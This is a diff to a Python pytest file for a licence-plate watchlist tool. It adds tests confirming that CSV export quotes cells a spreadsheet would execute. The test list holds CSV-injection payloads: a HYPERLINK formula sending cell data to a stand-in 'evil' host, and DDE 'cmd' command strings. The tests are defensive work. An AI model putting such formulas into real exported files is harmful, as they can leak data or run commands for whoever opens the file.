@@ -2,20 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import os
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from alerts.matching import Strictness
 from alerts.watchlist import Category, EntryStatus, Scope, Watchlist
+from alerts.watchlist_export import export_csv, export_yaml
 from alerts.watchlist_io import (
     WatchlistImportError,
     WatchlistWatcher,
     default_entry_id,
-    export_csv,
-    export_yaml,
     format_time,
     import_csv,
     import_yaml,
@@ -249,3 +251,29 @@ def test_malformed_csv_is_a_file_problem() -> None:
     huge = MINIMAL + "京A12346,stolen,1," + "r" * 200_000 + "\n"     # past csv's field limit
     problems = _problems(lambda: import_csv(huge, "huge.csv"))
     assert problems[0].startswith("huge.csv:3: cannot read CSV: field larger than field limit")
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
+            "-2+3+cmd|x", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("reason", FORMULAS)
+def test_export_quotes_cells_a_spreadsheet_would_run(reason: str) -> None:
+    """Issue 11, item 8 (OWASP CSV injection): no exported cell starts like a formula, and
+    the import takes the quote off again, so the reason survives a round trip."""
+    entries = import_csv(f"plate,category,level,reason,unit\n京A12345,stolen,1,x,{'=1+2'}\n",
+                         "u.csv")
+    entries = [replace(entries[0], reason=reason)]
+    text = export_csv(entries)
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["reason"] == "'" + reason and row["unit"] == "'=1+2"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                   for cell in row.values()), row
+    assert import_csv(text, "again.csv")[0].reason == reason.strip()
+
+
+def test_plain_cells_and_quotes_are_left_alone() -> None:
+    entries = import_csv("plate,category,level,reason\n京A12345,stolen,1,'引号' 开头\n", "u.csv")
+    text = export_csv(entries)
+    assert next(csv.DictReader(io.StringIO(text, newline="")))["reason"] == "'引号' 开头"
+    assert import_csv(text, "again.csv")[0].reason == "'引号' 开头"
